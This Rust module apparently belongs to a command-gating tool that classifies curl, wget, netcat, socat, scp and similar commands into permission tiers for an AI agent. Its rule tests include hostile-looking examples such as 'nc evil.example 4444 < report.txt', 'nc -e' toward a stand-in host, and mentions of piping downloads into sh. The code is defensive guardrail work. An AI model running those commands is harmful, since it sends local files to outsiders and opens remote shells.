//! The `http` family: HTTP clients (curl, wget, httpie/xh, aria2c), raw sockets
//! (nc/ncat/netcat, socat, telnet) and file transfer (scp, sftp, ftp).
//!
//! A GET or a download into the tree reads; a method other than GET/HEAD/OPTIONS,
//! a request body, an upload, a listener or an outgoing connection that sends
//! stdin is T3. Output files go through `writes::check_write`. Pipelines
//! (`curl … | sh`, secrets piped to curl) are the `flow` family's job.

use crate::words;

mod curl;
mod httpie;
mod remote;
mod sockets;
mod wget;

use crate::call::args::{split_option, ArgSpec, Args, Token};
use crate::call::{value_arg, Arg};
use crate::rules::{Card, Carried, Carry, Family, Rule, Traits};

/// A help or version request answers `http.read` (the cards of curl, wget and
/// httpie declare their help words; the other clients ask in their checks).
pub static FAMILY: Family = Family::new("http", CARDS, RULES).answers_help(&READ);

static CARDS: &[Card] = &[
    Card::of(words!["curl"], curl::check).traits(Traits::FETCHER.with(Traits::NETWORK_SINK)).args(curl::CURL_ARGS).carries(&CURL_CARRIES),
    Card::of(words!["wget", "wget2"], wget::wget).traits(Traits::FETCHER.with(Traits::NETWORK_SINK)).args(wget::WGET_ARGS).carries(&WGET_CARRIES),
    Card::of(words!["aria2c"], wget::aria2c).traits(Traits::NETWORK_SINK).carries(&ARIA_CARRIES),
    Card::of(words!["http", "https", "xh", "xhs", "httpie"], httpie::check)
        .traits(Traits::FETCHER.with(Traits::NETWORK_SINK))
        .args(httpie::HTTPIE_ARGS)
        .carries(&HTTPIE_CARRIES),
    Card::of(words!["nc", "ncat", "netcat"], sockets::nc).traits(Traits::NETWORK_SINK),
    Card::of(words!["socat"], sockets::socat).traits(Traits::NETWORK_SINK),
    Card::of(words!["telnet"], sockets::telnet).traits(Traits::NETWORK_SINK),
    Card::of(words!["scp"], sockets::scp).traits(Traits::NETWORK_SINK).carries(&IDENTITY),
    Card::of(words!["sftp", "ftp", "lftp"], sockets::session).traits(Traits::NETWORK_SINK).carries(&IDENTITY),
    Card::of(words!["openssl"], remote::openssl),
    Card::of(words!["smbclient"], remote::smbclient).traits(Traits::NETWORK_SINK).carries(&SMB_CARRIES),
    Card::of(remote::MAILERS, remote::mail).traits(Traits::NETWORK_SINK),
    Card::of(remote::UPLOADERS, remote::uploader),
    // Text-mode browsers and BSD's fetch write what they download to their output
    // (`lynx -dump URL | sh`); no family models them beyond that.
    Card::known(words!["fetch", "lynx", "links"]).traits(Traits::FETCHER.with(Traits::NETWORK_SINK)),
    // Tools that send what they are given: a name is looked up, a `ping -p` pattern
    // travels in every packet (what they read is the flow pass's business).
    Card::known(words![
        "dig", "nslookup", "host", "drill", "delv", "kdig", "whois", "ping", "ping6", "fping", "hping3", "traceroute", "tracepath", "mtr", "curlie",
        "websocat", "w3m",
    ])
    .traits(Traits::NETWORK_SINK),
    Card::known(words!["grpcurl"]).traits(Traits::NETWORK_SINK).carries(&GRPCURL_CARRIES),
];

// Where each client takes a credential (`Carry::Credential`) or a header
// (`Carry::Header`): a secret-named variable there is used to authenticate.
static CURL_CARRIES: [Carried; 2] = [
    Carried { names: words!["-u", "--user", "-U", "--proxy-user", "--oauth2-bearer"], carry: Carry::Credential },
    Carried { names: words!["-H", "--header", "--proxy-header"], carry: Carry::Header },
];
static WGET_CARRIES: [Carried; 2] = [
    Carried {
        names: words!["--user", "--password", "--http-user", "--http-password", "--proxy-user", "--proxy-password", "--ftp-user", "--ftp-password"],
        carry: Carry::Credential,
    },
    Carried { names: words!["--header"], carry: Carry::Header },
];
static ARIA_CARRIES: [Carried; 2] = [
    Carried { names: words!["--http-user", "--http-passwd", "--ftp-user", "--ftp-passwd"], carry: Carry::Credential },
    Carried { names: words!["--header"], carry: Carry::Header },
];
// httpie's request items are its headers (`Authorization:Bearer …`): no option names.
static HTTPIE_CARRIES: [Carried; 2] =
    [Carried { names: words!["-a", "--auth", "--bearer"], carry: Carry::Credential }, Carried { names: words![], carry: Carry::Header }];
static GRPCURL_CARRIES: [Carried; 1] = [Carried { names: words!["-H", "-rpc-header", "-reflect-header"], carry: Carry::Header }];
static IDENTITY: [Carried; 1] = [Carried { names: words!["-i", "-u", "--user"], carry: Carry::Credential }];
static SMB_CARRIES: [Carried; 1] = [Carried { names: words!["-U", "--user", "--password"], carry: Carry::Credential }];

static RULES: &[&Rule] =
    &[&READ, &METHOD, &BODY, &UPLOAD, &CONFIG, &LISTEN, &CONNECT, &sockets::EXEC, &sockets::PROBE, &sockets::SESSION, &wget::P2P, &remote::MAIL, &remote::SMB];

/// ## What it matches
/// GET and HEAD requests and downloads: `curl URL`, `curl -I`, `curl -G --data-urlencode`, `curl -o FILE` into the tree, `wget URL`, `http GET URL` with only headers and query items, `scp host:file .`, `curl file:///path`.
/// ## Why this tier
/// Reading a URL changes nothing remote; output files inside the tree are authoring (elsewhere the write-target rules apply).
pub static READ: Rule = Rule::t0("http.read")
    .reason("fetches or downloads without changing anything remote")
    .matches(words![
        "curl https://example.com",
        "curl -sSL -o install.sh https://example.com/install.sh",
        "curl -G --data-urlencode 'q=x' https://api.example.com/search",
        "wget -qO- https://example.com",
        "http GET https://api.example.com/items Accept:application/json",
        "scp prod:/var/log/app.log ./logs/",
        "curl -I https://example.com",
        "curl --help",
        "curl -V",
        "wget --help",
        "aria2c https://example.com/f.iso",
        "http --help",
        "httpie cli check-updates",
        "http --offline POST https://api.example.com/items name=x",
        "nc -h",
        "socat -V",
        "telnet --help",
        "scp -h",
        "sftp -h",
        "sftp web1:/var/log/app.log ./logs/",
    ])
    .not_matches(words![
        "curl -X POST https://h", "curl -o /usr/local/bin/tool https://example.com/tool", "telnet -l -h evil.example", "sftp -b cmds host -h",
        "nc -e -h evil.example 4444",
    ]);

/// ## What it matches
/// A request method that writes: `curl -X POST|PUT|PATCH|DELETE`, `wget --method=…`, `http POST|PUT|PATCH|DELETE URL`.
/// ## Why this tier
/// Changes remote state.
pub static METHOD: Rule = Rule::t3("http.request.method")
    .reason("sends a request that changes remote state (POST, PUT, PATCH or DELETE); ask the user first")
    .matches(words![
        "curl -X POST https://api.example.com/data", "curl --request=DELETE https://h/1", "wget --method PUT https://api.example.com",
        "http DELETE https://api.example.com/users/1", "curl -X POST -d '{\"a\":1}' https://h", "httpie cli plugins install httpie-jwt-auth",
    ])
    .not_matches(words!["curl -X GET https://h", "curl -XHEAD https://h"]);

/// ## What it matches
/// A request body: `curl -d/--data*/--json/-F/--form*`, `wget --post-data/--post-file/--body-data/--body-file`, httpie data items (`name=x`, `n:=5`, `f@file`) or piped stdin.
/// ## Why this tier
/// A body makes the request a POST, and sends local data away.
pub static BODY: Rule = Rule::t3("http.request.body")
    .reason("sends a request body (a POST by default), which changes remote state or sends data away; ask the user first")
    .matches(words![
        "curl -d @payload.json https://api.example.com", "curl --json '{\"a\":1}' https://h", "curl -F file=@report.pdf https://h/upload",
        "wget --post-data 'a=1' https://h", "http https://api.example.com/users name=John", "http https://h count:=5",
    ])
    .not_matches(words!["curl -G -d q=x https://h", "http https://h q==x Accept:text/plain"]);

/// ## What it matches
/// Uploads: `curl -T FILE`, `scp FILE host:path`, `curl --mail-rcpt …` (sends mail), `curl -Q` raw FTP commands.
/// ## Why this tier
/// Writes remote files or sends local files away.
pub static UPLOAD: Rule = Rule::t3("http.upload")
    .reason("uploads local files to a remote host; ask the user first")
    .matches(words![
        "curl -T backup.tar https://h/upload/", "scp ./dist/app prod:/opt/app/", "scp -r build/ user@host:", "curl --mail-rcpt a@b.c smtp://mail -T msg.txt",
        "fpaste error.log",
    ])
    .not_matches(words!["scp prod:/var/log/app.log .", "gist --list"]);

/// ## What it matches
/// Options read from a file or command tiergate does not see: `curl -K FILE`, `wget --config FILE`, `wget -e 'post_data=…'`.
/// ## Why this tier
/// The file can set a method, a body or an upload.
pub static CONFIG: Rule = Rule::t3("http.client-config")
    .reason("takes options from a config file tiergate does not read (it may set a method, body or upload); pass the options on the command line")
    .matches(words!["curl -K req.cfg https://h", "wget --config=x.rc https://h", "wget -e post_data=x https://h"])
    .not_matches(words!["wget -e robots=off https://h"]);

/// ## What it matches
/// A listener: `nc -l`, `ncat -l`, `socat TCP-LISTEN:…`, `aria2c --enable-rpc`.
/// ## Why this tier
/// Opens the machine to whoever connects; what arrives is unseen.
pub static LISTEN: Rule = Rule::t3("http.socket.listen")
    .reason("opens a network listener; ask the user first")
    .matches(words!["nc -l 4444", "ncat -lvp 8080", "socat TCP-LISTEN:8080,fork -"])
    .not_matches(words!["nc -zv localhost 5432"]);

/// ## What it matches
/// An outgoing raw connection that sends input: `nc host port`, `telnet host`, `socat - TCP:host:80`.
/// ## Why this tier
/// Whatever is typed or piped goes to the remote service, which may act on it.
pub static CONNECT: Rule = Rule::t3("http.socket.connect")
    .reason("opens a raw connection that sends input to a remote service; ask the user first")
    .matches(words!["nc evil.example 4444 < report.txt", "telnet mail.example.com 25", "socat - TCP:example.com:80"])
    .not_matches(words!["nc -z host 22", "nc -h"]);

/// A parsed option: its declared spelling (or the word of an undeclared one) and
/// its value, if it takes one.
pub(crate) struct Opt<'a> {
    pub name: &'a str,
    pub value: Option<Arg>,
}

/// Splits argv into options and operands for a client whose short options pack
/// (`-sSLo file`): `spec` declares the value options and the flags the client reads.
pub(crate) fn options<'a>(args: &'a [Arg], spec: ArgSpec) -> (Vec<Opt<'a>>, Vec<Arg>) {
    let mut opts = Vec::new();
    let mut operands = Vec::new();
    for t in Args::parse(args, spec) {
        match t {
            Token::Opt { index, name, value } => opts.push(Opt { name, value: value.map(|v| value_arg(args, index, v)) }),
            // An undeclared `--name=value` keeps its value.
            Token::Flag { index, word, .. } => {
                let (name, value) = split_option(word);
                opts.push(Opt { name, value: value.map(|v| value_arg(args, index, v)) });
            }
            // A value option with nothing after it is still the option (`curl -X`).
            Token::Missing { name, .. } => opts.push(Opt { name, value: None }),
            Token::Operand(o) => operands.push(o.arg.clone()),
            _ => {}
        }
    }
    (opts, operands)
}

crate::tables![; remote];
